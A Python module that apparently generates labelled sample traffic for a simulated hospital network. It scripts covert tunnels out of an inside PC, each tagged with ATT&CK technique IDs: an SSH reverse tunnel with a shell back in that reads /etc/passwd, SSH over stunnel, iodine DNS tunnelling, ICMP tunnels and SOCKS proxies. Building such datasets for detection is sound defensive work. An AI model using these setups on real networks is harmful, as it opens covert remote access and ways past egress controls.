"""Tunnels inside what is let out: SSH, TLS, DNS, ICMP, SOCKS."""

from __future__ import annotations

from sample_pcaps.hospital import HOSTS
from sample_pcaps.lab.hosts import Machine, call
from sample_pcaps.lab.network import ip
from sample_pcaps.lab.story import NETFLOW, SPAN, Stage, Story, Truth

_INSIDE = HOSTS["NUTRI-PC1"]
_RELAY = "198.51.100.60"
_BOTH = (SPAN, NETFLOW)


def sshd(machine: Machine, address: str, port: int, *, passwords: bool = False) -> None:
    """An OpenSSH server whose root lets in the keys of the file `allowed`."""
    machine.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"host{port}")
    (machine.folder / "run" / "sshd").mkdir(exist_ok=True)
    files = machine.folder / "files"
    options = (
        f"HostKey={files}/host{port}", f"AuthorizedKeysFile={files}/allowed", "StrictModes=no",
        f"PasswordAuthentication={'yes' if passwords else 'no'}", "PermitRootLogin=yes",
        "UsePAM=no", "GatewayPorts=yes", "Subsystem=sftp internal-sftp",
    )  # fmt: skip
    words = [word for option in options for word in ("-o", option)]
    machine.serve(port, "/usr/sbin/sshd", "-D", "-e", "-f", "/dev/null", "-p", str(port),
                  "-o", f"ListenAddress={address}", *words)  # fmt: skip


def key_for(client: Machine, *servers: Machine) -> None:
    """Make a client's key and let it in at the servers."""
    if not (client.folder / "files" / "own").exists():
        client.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", "own")
    public = (client.folder / "files" / "own.pub").read_text()
    for server in servers:
        allowed = server.folder / "files" / "allowed"
        server.write("allowed", (allowed.read_text() if allowed.exists() else "") + public)


SSH = ("ssh", "-i", "own", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
       "-o", "LogLevel=ERROR")  # fmt: skip

#: A person at a shell: a command every half second or so.
TYPING = "for word in id hostname 'ip addr' 'cat /etc/passwd' 'ls -la /etc' date uptime; do " \
         "$word; sleep 0.6; done"  # fmt: skip


def ssh_reverse(stage: Stage) -> None:
    inside, outside = stage[_INSIDE.name], stage.network.outside_address(_RELAY)
    key_for(inside, outside)
    key_for(outside, inside)
    sshd(outside, _RELAY, 443)
    sshd(inside, "127.0.0.1", 22)
    truth = Truth("ssh -R to a relay's port 443, and a shell back in through it",
                  ("T1572", "T1090"), _INSIDE.ip, (_RELAY,), _BOTH)  # fmt: skip
    with stage.happens(truth):
        inside.start(*SSH, "-N", "-p", "443", "-R", "2222:127.0.0.1:22", f"root@{_RELAY}")
        outside.programs[-1].wait_until(lambda: outside.listens(2222))
        for _ in range(3):
            outside.run(*SSH, "-p", "2222", "root@127.0.0.1", TYPING)


def stunnel(stage: Stage) -> None:
    inside, outside = stage[_INSIDE.name], stage.network.outside_address(_RELAY)
    key_for(outside, inside)
    key_for(inside, outside)
    sshd(outside, "127.0.0.1", 22)
    outside.run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "pair.pem",
                "-out", "own.crt", "-days", "30", "-subj", "/CN=localhost")  # fmt: skip
    pair = outside.folder / "files" / "pair.pem"
    pair.write_text(pair.read_text() + (outside.folder / "files" / "own.crt").read_text())
    outside.write("stunnel.conf", f"foreground=yes\npid=\n[ssh]\naccept={_RELAY}:443\n"
                  f"connect=127.0.0.1:22\ncert={pair}\n")  # fmt: skip
    inside.write("stunnel.conf", "foreground=yes\npid=\n[ssh]\nclient=yes\n"
                 f"accept=127.0.0.1:2200\nconnect={_RELAY}:443\n")  # fmt: skip
    outside.serve(443, "stunnel4", "stunnel.conf")
    inside.serve(2200, "stunnel4", "stunnel.conf")
    truth = Truth("SSH inside TLS (stunnel) to a relay's port 443", ("T1572", "T1573"),
                  _INSIDE.ip, (_RELAY,), _BOTH)  # fmt: skip
    with stage.happens(truth):
        for _ in range(3):
            inside.run(*SSH, "-p", "2200", "root@127.0.0.1", TYPING)


def iodine(stage: Stage) -> None:
    inside, outside = stage[_INSIDE.name], stage.network.outside_address("198.51.100.53")
    resolver = stage["DC1"]
    resolver.serve(53, "dnsmasq", "-k", "-u", "root", "-p", "53", "--no-resolv", "--no-hosts",
                   "--server=198.51.100.53", "--conf-file=/dev/null", udp=True)  # fmt: skip
    server = outside.start("iodined", "-f", "-c", "-P", "secret", "-l", "198.51.100.53",
                           "10.97.0.1", "t.news-cdn.example")  # fmt: skip
    server.wait_until(lambda: outside.listens(53, udp=True))
    truth = Truth("iodine: IP inside DNS names by the hospital's own resolver",
                  ("T1071.004", "T1572", "T1048.003"), _INSIDE.ip, (), (SPAN,))  # fmt: skip
    with stage.happens(truth):
        inside.start("iodine", "-f", "-r", "-P", "secret", "-I1", HOSTS["DC1"].ip,
                     "t.news-cdn.example").until_says("Connection setup complete", 40)  # fmt: skip
        inside.run("ping", "-c", "20", "-i", "0.3", "-s", "200", "10.97.0.1", check=False)


def icmptx(stage: Stage) -> None:
    # Raw sockets answer from the machine's first address, so that one is the relay.
    inside, outside = stage[_INSIDE.name], stage.outside
    outside.run("sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1")
    outside.start("icmptx", "-s", "10.96.0.1").wait_until(lambda: has_link(outside, "tun0"))
    ip(outside, ["addr add 10.96.0.1/24 dev tun0", "link set tun0 mtu 1200 up"])
    truth = Truth("icmptx: IP inside echo requests", ("T1095", "T1572"), _INSIDE.ip, (outside.ip,),
                  _BOTH)  # fmt: skip
    with stage.happens(truth):
        inside.start("icmptx", "-c", outside.ip).wait_until(lambda: has_link(inside, "tun0"))
        ip(inside, ["addr add 10.96.0.2/24 dev tun0", "link set tun0 mtu 1200 up"])
        stage.note(inside.run("ping", "-c", "20", "-i", "0.3", "-s", "600", "10.96.0.1",
                              check=False)[-120:])  # fmt: skip


def has_link(machine: Machine, name: str) -> bool:
    return name in call("ip", "-n", machine.namespace, "-br", "link")


def ptunnel(stage: Stage) -> None:
    inside, outside = stage[_INSIDE.name], stage.outside
    key_for(inside, outside)
    sshd(outside, "127.0.0.1", 22)
    outside.run("sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1")
    outside.start("ptunnel-ng", "-r127.0.0.1", "-R22", "-P", "secret")
    truth = Truth("ptunnel-ng: a shell's TCP connection inside echo requests", ("T1095", "T1572"),
                  _INSIDE.ip, (outside.ip,), _BOTH)  # fmt: skip
    with stage.happens(truth):
        inside.serve(2201, "ptunnel-ng", "-p", outside.ip, "-l", "2201", "-r127.0.0.1", "-R22",
                     "-P", "secret")  # fmt: skip
        told = inside.run(*SSH, "-p", "2201", "root@127.0.0.1", TYPING, check=False, timeout_s=40)
        stage.note(f"ptunnel-ng: the shell inside said {len(told)} characters")


def socks_outside(stage: Stage) -> None:
    inside, outside = stage[_INSIDE.name], stage.network.outside_address(_RELAY, "192.0.2.33")
    outside.serve(1080, "microsocks", "-i", _RELAY, "-p", "1080")
    outside.serve(80, "python3", "-m", "http.server", "80", "--bind", "192.0.2.33")
    truth = Truth("a SOCKS proxy outside is used", ("T1090",), _INSIDE.ip, (_RELAY,), _BOTH)
    with stage.happens(truth):
        for _ in range(5):
            inside.run("curl", "-s", "-m", "5", "--socks5", f"{_RELAY}:1080", "http://192.0.2.33/")


def socks_inside(stage: Stage) -> None:
    """A host with a way out lends it: what a tethered PC with a proxy looks like on the LAN."""
    relay, user = stage["NUTRI-PC2"], stage[_INSIDE.name]
    outside = stage.network.outside_address("192.0.2.33")
    outside.serve(80, "python3", "-m", "http.server", "80", "--bind", "192.0.2.33")
    relay.serve(1080, "microsocks", "-p", "1080")
    truth = Truth("a PC of a closed VLAN lends its way out by SOCKS", ("T1090",), _INSIDE.ip,
                  (relay.ip,), (SPAN,))  # fmt: skip
    with stage.happens(truth):
        for _ in range(5):
            user.run("curl", "-s", "-m", "5", "--socks5", f"{relay.ip}:1080", "http://192.0.2.33/")


_SSH = ("sshd:openssh-server", "ssh:openssh-client")
STORIES = (
    Story("ssh-reverse", "SSH reverse tunnel", ssh_reverse, _SSH, (_INSIDE.name,)),
    Story("stunnel", "SSH inside TLS", stunnel, ("stunnel4:stunnel4", *_SSH), (_INSIDE.name,)),
    Story("iodine", "DNS tunnel", iodine, ("iodine:iodine", "dnsmasq:dnsmasq"),
          (_INSIDE.name, "DC1")),
    Story("icmptx", "ICMP tunnel", icmptx, ("icmptx:icmptx",), (_INSIDE.name,)),
    Story("ptunnel", "TCP in ICMP", ptunnel, ("ptunnel-ng:ptunnel-ng", *_SSH), (_INSIDE.name,)),
    Story("socks-outside", "SOCKS proxy outside", socks_outside,
          ("microsocks:microsocks", "curl:curl"), (_INSIDE.name,)),
    Story("socks-inside", "SOCKS proxy inside", socks_inside,
          ("microsocks:microsocks", "curl:curl"), (_INSIDE.name, "NUTRI-PC2")),
)  # fmt: skip
